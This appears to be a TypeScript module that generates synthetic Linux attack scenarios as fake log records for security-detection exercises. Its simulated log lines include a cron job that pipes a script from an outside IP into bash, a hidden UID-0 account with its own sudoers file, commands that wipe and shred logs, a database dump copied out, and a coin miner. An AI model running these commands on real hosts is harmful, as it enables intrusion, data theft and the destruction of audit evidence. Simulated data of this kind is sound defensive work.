/** Attacks on Linux hosts: MES, historian, portal, SFTP, build server. */
import type { Plot } from "./plot.ts";
import { plot } from "./plot.ts";
import { homeNet, hostingNet } from "../places.ts";
import { HOUR, MINUTE, range } from "../util.ts";

export const linuxPlots: Plot[] = [
  plot("ssh-password-guessed", "obvious", ["account_compromise"], (s) => {
    const { w, out, rng, key, night } = s;
    const host = w.servers[rng.pick(["sftp", "portal"])]!;
    const net = hostingNet(rng);
    const time = night();
    const user = rng.pick(["deploy", "backup", "ftpadmin"]);
    for (const i of range(rng.int(35, 70))) {
      out.ssh(time + i * 2500, host, i % 3 === 0 ? user : rng.pick(["root", "admin", "oracle"]), net.ip, false,
        "password");
    }
    key(out.ssh(time + 5 * MINUTE, host, user, net.ip, true, "password"));
    key(out.sudo(time + 7 * MINUTE, host, user, "/bin/bash"));
    return {
      subjects: [host.name, user, net.ip],
      summary: "After dozens of wrong passwords from one address the account of a deployment tool opens, and a root " +
        "shell.",
    };
  }),
  plot("new-user-with-all-rights", "context", ["privilege_escalation", "insider_threat"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => w.staff.developers.includes(p) || w.staff.linux.includes(p));
    const host = w.servers[rng.pick(["git", "historian", "mes1"])]!;
    const time = work(insider) + 9 * HOUR;
    const name = rng.pick(["sysupd", "monitor2", "www-backup"]);
    out.ssh(time - MINUTE, host, insider.sam,
      insider.home.net.ip.includes(":") ? "10.10.200.44" : w.servers.bastion!.ip, true);
    key(out.sudo(time, host, insider.sam, `/usr/sbin/useradd -m -o -u 0 ${name}`));
    out.syslog(time + 1000, host, "useradd", "authpriv", "info",
      `new user: name=${name}, UID=0, GID=1022, home=/home/${name}, shell=/bin/sh, from=/dev/pts/1`, { lag: 0 });
    key(out.sudo(time + 30_000, host, insider.sam, `/usr/bin/tee /etc/sudoers.d/90-${name}`));
    return {
      subjects: [insider.sam, host.name, name],
      summary: "In the evening a second root account with an innocent name is made, with its own file of rights.",
    };
  }),
  plot("cron-fetches-script", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, night } = s;
    const host = w.servers.portal!;
    const net = hostingNet(rng);
    const time = night();
    key(out.syslog(time, host, "crontab", "cron", "info", "(www-data) REPLACE (www-data)", { lag: 0 }));
    for (const i of range(rng.int(6, 12))) {
      key(out.syslog(time + (i + 1) * 10 * MINUTE, host, "CRON", "cron", "info",
        `(www-data) CMD (curl -fsSL http://${net.ip}:8000/.x | bash)`, { lag: 0 }));
    }
    out.traffic(time + 11 * MINUTE, w.sites[0]!, host.ip, net.ip,
      { port: 8000, received: 48_000, app: "web-browsing" });
    return {
      subjects: [host.name, "www-data", net.ip],
      summary: "The web server's account gets a cron job that fetches and runs a script from outside every ten minutes.",
    };
  }),
  plot("key-planted", "hard", ["account_compromise", "insider_threat"], (s) => {
    const { w, out, rng, key, work, person } = s;
    const insider = person((p) => w.staff.developers.includes(p));
    const host = w.servers[rng.pick(["git", "mes2", "historian"])]!;
    const time = work(insider);
    out.ssh(time, host, insider.sam, insider.host.ip, true);
    key(out.audited(time + 3 * MINUTE, host, 0, 1012, "/usr/bin/tee", "authorized_keys"));
    out.syslog(time + 3 * MINUTE + 10, host, "auditd", "local6", "info",
      `type=PATH msg=audit(${((time + 180_000) / 1000).toFixed(3)}:${rng.int(10_000, 99_999)}): item=1 ` +
      `name="/home/nagios/.ssh/authorized_keys" inode=${rng.int(1e5, 9e5)} nametype=NORMAL`, { lag: 0 });
    key(out.ssh(time + 9 * HOUR, host, "nagios", insider.host.ip, true));
    return {
      subjects: [insider.sam, host.name, "nagios"],
      summary: "A developer adds his key to the account of monitoring, and uses it hours later from his workstation.",
    };
  }),
  plot("web-shell-on-portal", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, day, at: clock } = s;
    const host = w.servers.portal!;
    const net = hostingNet(rng);
    const time = clock(day, rng.real(0, 24));
    const file = `/var/www/portal/upload/${rng.hex(6)}.php`;
    out.syslog(time, host, "nginx", "local7", "info",
      `${net.ip} - - "POST /upload.php HTTP/1.1" 200 512 "-" "Mozilla/5.0"`, { lag: 0 });
    for (const i of range(rng.int(5, 9))) {
      const ids = out.syslog(time + (i + 1) * MINUTE, host, "nginx", "local7", "info",
        `${net.ip} - - "POST ${file.slice(15)} HTTP/1.1" 200 ${rng.int(200, 9000)} "-" "python-requests/2.31.0"`,
        { lag: 0 });
      key(i === 0 ? ids : []);
      const shell = out.audited(time + (i + 1) * MINUTE + 400, host, 33, 4294967295,
        rng.pick(["/usr/bin/id", "/usr/bin/whoami", "/usr/bin/cat", "/usr/bin/wget", "/bin/sh"]), "webserver_exec");
      key(i < 3 ? shell : []);
    }
    return {
      subjects: [host.name, net.ip],
      summary: "A file uploaded to the portal is called again and again, and the web server's account starts shells.",
    };
  }),
  plot("auditing-of-host-stopped", "obvious", ["sabotage", "account_compromise"], (s) => {
    const { w, out, rng, key, night } = s;
    const victim = rng.pick(w.staff.linux);
    const host = w.servers[rng.pick(["mes1", "mes3", "git", "bastion"])]!;
    const time = night();
    out.ssh(time, host, victim.sam, `${host.site.subnet}.200.${rng.int(10, 90)}`, true, "password");
    key(out.sudo(time + MINUTE, host, victim.sam, "/usr/bin/systemctl stop auditd rsyslog"));
    out.syslog(time + 61_000, host, "systemd", "daemon", "info", "Stopped Security Auditing Service.", { lag: 0 });
    key(out.sudo(time + 2 * MINUTE, host, victim.sam,
      rng.pick(["/usr/bin/truncate -s 0 /var/log/auth.log", "/usr/bin/shred -u /var/log/audit/audit.log",
      "/bin/rm -f /root/.bash_history /var/log/wtmp"])));
    return {
      subjects: [victim.sam, host.name],
      summary: "Auditing and logging are stopped at night and the logs emptied.",
    };
  }),
  plot("database-dumped-and-copied", "context", ["data_exfiltration", "insider_threat"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => w.staff.linux.includes(p) || w.staff.developers.includes(p));
    const host = w.servers[rng.pick(["historian", "git"])]!;
    const net = homeNet(rng, insider.site.country);
    const time = work(insider) + 2 * HOUR;
    out.ssh(time, host, insider.sam, w.servers.bastion!.ip, true);
    key(out.sudo(time + 2 * MINUTE, host, insider.sam, "/usr/bin/pg_dump -Fc -f /tmp/.c recipes", { as: "postgres" }));
    key(out.audited(time + 19 * MINUTE, host, 1008, 1008, "/usr/bin/scp", "exfil_tools"));
    out.traffic(time + 19 * MINUTE, w.sites[0]!, host.ip, net.ip, { port: 22, sent: rng.int(8e8, 6e9), app: "ssh" });
    out.sudo(time + 50 * MINUTE, host, insider.sam, "/bin/rm /tmp/.c", { as: "postgres" });
    return {
      subjects: [insider.sam, host.name, net.ip],
      summary: "The database with process recipes is dumped to a hidden file and copied to a private connection.",
    };
  }),
  plot("vendor-comes-unannounced", "context", ["account_compromise", "data_exfiltration"], (s) => {
    const { w, out, rng, key, night } = s;
    const host = w.servers.mes2!;
    const net = hostingNet(rng);
    const site = w.sites[1]!;
    const time = night();
    key(out.vpn(time, site, "ext-machineservice", net, "up", { assigned: `${site.subnet}.210.7` }));
    key(out.ssh(time + 5 * MINUTE, host, "vendor", `${site.subnet}.210.7`, true, "password"));
    out.sudo(time + 8 * MINUTE, host, "vendor", "/bin/tar czf /tmp/r.tgz /opt/mes/recipes", { denied: true });
    out.audited(time + 9 * MINUTE, host, 1040, 1040, "/usr/bin/tar", "recipes_read");
    out.vpn(time + HOUR, site, "ext-machineservice", net, "down", { sent: rng.int(6e8, 2e9) });
    return {
      subjects: ["ext-machineservice", host.name, net.ip],
      summary: "The account of the machine vendor connects at night from a rented server, goes directly to the MES " +
        "host and packs the recipes.",
    };
  }),
  plot("mining-on-build-server", "obvious", ["account_compromise", "policy_violation"], (s) => {
    const { w, out, rng, key, day, at: clock } = s;
    const host = w.servers[rng.pick(["git", "monitor"])]!;
    const time = clock(day, rng.real(0, 24));
    const pool = hostingNet(rng);
    const unit = rng.pick(["kworkerds", "systemd-netd", "dbused"]);
    key(out.syslog(time, host, "systemd", "daemon", "info", `Started ${unit}.service - xmrig donate-level=1.`,
      { lag: 0 }));
    out.syslog(time + 4000, host, "kernel", "kern", "warning",
      `msr: Write to unrecognized MSR 0x1a4 by ${unit} (pid: ${rng.int(3000, 9000)}).`, { lag: 0 });
    for (const i of range(5)) {
      key(out.traffic(time + MINUTE + i * 20 * MINUTE, w.sites[0]!, host.ip, pool.ip,
        { port: 3333, sent: 40_000, received: 60_000, app: "stratum" }));
    }
    return {
      subjects: [host.name, unit, pool.ip],
      summary: "A service with a system-like name runs a coin miner that talks to a pool.",
    };
  }),
  plot("root-by-patience", "hard", ["privilege_escalation", "insider_threat"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => w.staff.developers.includes(p));
    const host = w.servers.git!;
    const time = work(insider);
    for (const i of range(rng.int(4, 7))) {
      out.syslog(time + i * 6 * MINUTE, host, "su", "authpriv", "notice",
        `FAILED SU (to root) ${insider.sam} on pts/2`);
    }
    key(out.syslog(time + 55 * MINUTE, host, "su", "authpriv", "info", `(to root) ${insider.sam} on pts/2`,
      { lag: 0 }));
    key(out.audited(time + 58 * MINUTE, host, 0, 1015, "/usr/bin/cat", "shadow_read"));
    return {
      subjects: [insider.sam, host.name],
      summary: "A developer guesses the root password over an hour and reads the file with password hashes.",
    };
  }),
  plot("tunnel-out-of-the-plant", "hard", ["policy_violation", "account_compromise"], (s) => {
    const { w, out, rng, key, person, work } = s;
    const insider = person((p) => p.title === "Process Engineer" || p.title === "CNC Programmer" ||
      w.staff.linux.includes(p));
    const host = w.servers[rng.pick(["mes2", "mes3"])]!;
    const net = hostingNet(rng);
    const time = work(insider);
    out.ssh(time, host, "mes", insider.host.ip, true, "password");
    key(out.audited(time + 4 * MINUTE, host, 1001, 1001, "/usr/bin/ssh", "outbound_ssh"));
    for (const i of range(4)) {
      key(out.traffic(time + (5 + i * 240) * MINUTE, host.site, host.ip, net.ip,
        { port: rng.pick([22, 443]), sent: rng.int(2e5, 9e5), received: rng.int(2e5, 9e5), app: "ssh" }));
    }
    return {
      subjects: [host.name, insider.sam, net.ip],
      summary: "A reverse tunnel leads from the MES host of a plant to a rented server and stays up.",
    };
  }),
  plot("kernel-module-loaded", "context", ["account_compromise"], (s) => {
    const { w, out, rng, key, night } = s;
    const host = w.servers[rng.pick(["sftp", "bastion", "portal"])]!;
    const time = night();
    const name = rng.pick(["netfilter_ext", "snd_hda_ctl", "vmw_pvbus"]);
    key(out.audited(time, host, 0, 4294967295, "/usr/sbin/insmod", "modules"));
    key(out.syslog(time + 300, host, "kernel", "kern", "warning", `${name}: loading out-of-tree module taints kernel.`,
      { lag: 0 }));
    out.syslog(time + 310, host, "kernel", "kern", "warning",
      `${name}: module verification failed: signature and/or required key missing - tainting kernel`, { lag: 0 });
    return {
      subjects: [host.name],
      summary: "An unsigned kernel module is loaded on a server at night, outside of any update.",
    };
  }),
];
